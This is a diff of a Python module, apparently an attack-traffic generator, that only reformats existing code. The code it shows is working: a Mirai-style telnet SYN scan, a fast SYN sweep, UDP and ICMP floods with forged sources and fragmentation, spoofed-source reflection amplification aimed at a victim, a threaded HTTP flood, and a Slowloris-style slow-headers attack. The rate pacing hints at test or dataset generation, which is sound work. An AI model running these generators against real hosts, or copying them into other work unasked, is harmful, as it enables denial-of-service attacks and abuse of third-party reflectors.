@@ -35,7 +35,6 @@ __all__ = ["main"]
 log = logging.getLogger(__name__)
 
 
-
 class _Pacer:
     """Sleep so that sending stays near ``rate`` per second until a deadline."""
 
@@ -77,8 +76,12 @@ def mirai(args: argparse.Namespace) -> int:
             dport = 2323 if random.random() < 0.1 else 23
             seq = int(ipaddress.IPv4Address(dst))
             packet = IP(dst=dst, id=random.getrandbits(16), ttl=64) / TCP(
-                sport=random.randint(1024, 65535), dport=dport, flags="S", seq=seq,
-                window=random.getrandbits(16) or 1)
+                sport=random.randint(1024, 65535),
+                dport=dport,
+                flags="S",
+                seq=seq,
+                window=random.getrandbits(16) or 1,
+            )
             sock.sendto(bytes(packet), (dst, 0))
             sent += 1
     return sent
@@ -94,13 +97,14 @@ def fastsweep(args: argparse.Namespace) -> int:
     sport, secret = random.randint(40000, 60000), random.getrandbits(32)
     pacer, sent = _Pacer(args.rate, args.seconds), 0
     with _raw_socket() as sock:
-        for dst, dport in probes[:args.count]:
+        for dst, dport in probes[: args.count]:
             if not pacer.next():
                 break
             ip_int = int(ipaddress.IPv4Address(dst))
             seq = (ip_int ^ (dport << 16) ^ secret) & 0xFFFFFFFF
             packet = IP(dst=dst, id=(ip_int ^ dport ^ seq) & 0xFFFF, ttl=255) / TCP(
-                sport=sport, dport=dport, flags="S", seq=seq, window=1024)
+                sport=sport, dport=dport, flags="S", seq=seq, window=1024
+            )
             sock.sendto(bytes(packet), (dst, 0))
             sent += 1
     return sent
@@ -128,10 +132,14 @@ def flood(args: argparse.Namespace) -> int:
                 ip.src = src
             if args.proto == "udp":
                 dport = args.port or random.randint(1, 65535)
-                packet = ip / UDP(sport=random.randint(1024, 65535), dport=dport) / payload
+                packet = (
+                    ip / UDP(sport=random.randint(1024, 65535), dport=dport) / payload
+                )
             else:
                 packet = ip / ICMP(id=random.getrandbits(16), seq=sent) / payload
-            pieces = fragment(packet, fragsize=args.fragment) if args.fragment else [packet]
+            pieces = (
+                fragment(packet, fragsize=args.fragment) if args.fragment else [packet]
+            )
             for piece in pieces:
                 sock.sendto(bytes(piece), (args.target, 0))
             sent += 1
@@ -157,24 +165,30 @@ def reflect(args: argparse.Namespace) -> int:
     with _raw_socket() as sock:
         while sent < args.count and pacer.next():
             sport = random.randint(*SPOOF_PORT_RANGE)
-            packet = IP(src=args.victim, dst=args.reflector, id=random.getrandbits(16)) / UDP(
-                sport=sport, dport=dport) / _reflect_request(args.service)
+            packet = (
+                IP(src=args.victim, dst=args.reflector, id=random.getrandbits(16))
+                / UDP(sport=sport, dport=dport)
+                / _reflect_request(args.service)
+            )
             sock.sendto(bytes(packet), (args.reflector, 0))
             sent += 1
     return sent
 
 
-def _http_worker(args: argparse.Namespace, deadline: float, budget: list[int],
-                 lock: threading.Lock) -> None:
+def _http_worker(
+    args: argparse.Namespace, deadline: float, budget: list[int], lock: threading.Lock
+) -> None:
     body = b"user=admin&pass=" + b"x" * 200 if args.method == "POST" else b""
     while time.monotonic() < deadline:
         with lock:
             if budget[0] <= 0:
                 return
             budget[0] -= 1
-        request = (f"{args.method} /?q={random.getrandbits(24)} HTTP/1.1\r\nHost: "
-                   f"{args.target}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: "
-                   f"{len(body)}\r\n\r\n").encode() + body
+        request = (
+            f"{args.method} /?q={random.getrandbits(24)} HTTP/1.1\r\nHost: "
+            f"{args.target}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: "
+            f"{len(body)}\r\n\r\n"
+        ).encode() + body
         try:
             with socket.create_connection((args.target, args.port), timeout=2) as sock:
                 sock.sendall(request)
@@ -185,9 +199,15 @@ def _http_worker(args: argparse.Namespace, deadline: float, budget: list[int],
 
 def http(args: argparse.Namespace) -> int:
     """HTTP GET/POST flood: ``--count`` requests over ``--workers`` threads."""
-    deadline, budget, lock = time.monotonic() + args.seconds, [args.count], threading.Lock()
-    workers = [threading.Thread(target=_http_worker, args=(args, deadline, budget, lock))
-               for _ in range(args.workers)]
+    deadline, budget, lock = (
+        time.monotonic() + args.seconds,
+        [args.count],
+        threading.Lock(),
+    )
+    workers = [
+        threading.Thread(target=_http_worker, args=(args, deadline, budget, lock))
+        for _ in range(args.workers)
+    ]
     for worker in workers:
         worker.start()
     for worker in workers:
@@ -201,8 +221,10 @@ def slowheaders(args: argparse.Namespace) -> int:
     for _ in range(args.count):
         try:
             sock = socket.create_connection((args.target, args.port), timeout=2)
-            sock.sendall(f"GET /?{random.getrandbits(16)} HTTP/1.1\r\nHost: "
-                         f"{args.target}\r\n".encode())
+            sock.sendall(
+                f"GET /?{random.getrandbits(16)} HTTP/1.1\r\nHost: "
+                f"{args.target}\r\n".encode()
+            )
             sockets.append(sock)
         except OSError:
             continue
@@ -210,8 +232,9 @@ def slowheaders(args: argparse.Namespace) -> int:
         time.sleep(min(args.interval, max(0.0, deadline - time.monotonic())))
         for sock in list(sockets):
             try:
-                sock.sendall(f"X-a{random.getrandbits(12)}: {random.getrandbits(16)}\r\n"
-                             .encode())
+                sock.sendall(
+                    f"X-a{random.getrandbits(12)}: {random.getrandbits(16)}\r\n".encode()
+                )
             except OSError:
                 sockets.remove(sock)
     for sock in sockets:
@@ -219,8 +242,14 @@ def slowheaders(args: argparse.Namespace) -> int:
     return len(sockets)
 
 
-GENERATORS = {"mirai": mirai, "flood": flood, "fastsweep": fastsweep, "reflect": reflect, "http": http,
-              "slowheaders": slowheaders}
+GENERATORS = {
+    "mirai": mirai,
+    "flood": flood,
+    "fastsweep": fastsweep,
+    "reflect": reflect,
+    "http": http,
+    "slowheaders": slowheaders,
+}
 
 
 def _parser() -> argparse.ArgumentParser:
@@ -235,7 +264,9 @@ def _parser() -> argparse.ArgumentParser:
     parser.add_argument("--interval", type=float, default=1.0)
     parser.add_argument("--proto", choices=("udp", "icmp"), default="udp")
     parser.add_argument("--size", type=int, default=32, help="payload bytes")
-    parser.add_argument("--fragment", type=int, default=0, help="fragment size, 0 = none")
+    parser.add_argument(
+        "--fragment", type=int, default=0, help="fragment size, 0 = none"
+    )
     parser.add_argument("--spoof", action="store_true", help="random forged sources")
     parser.add_argument("--service", choices=sorted(REFLECTOR_PORTS))
     parser.add_argument("--reflector")
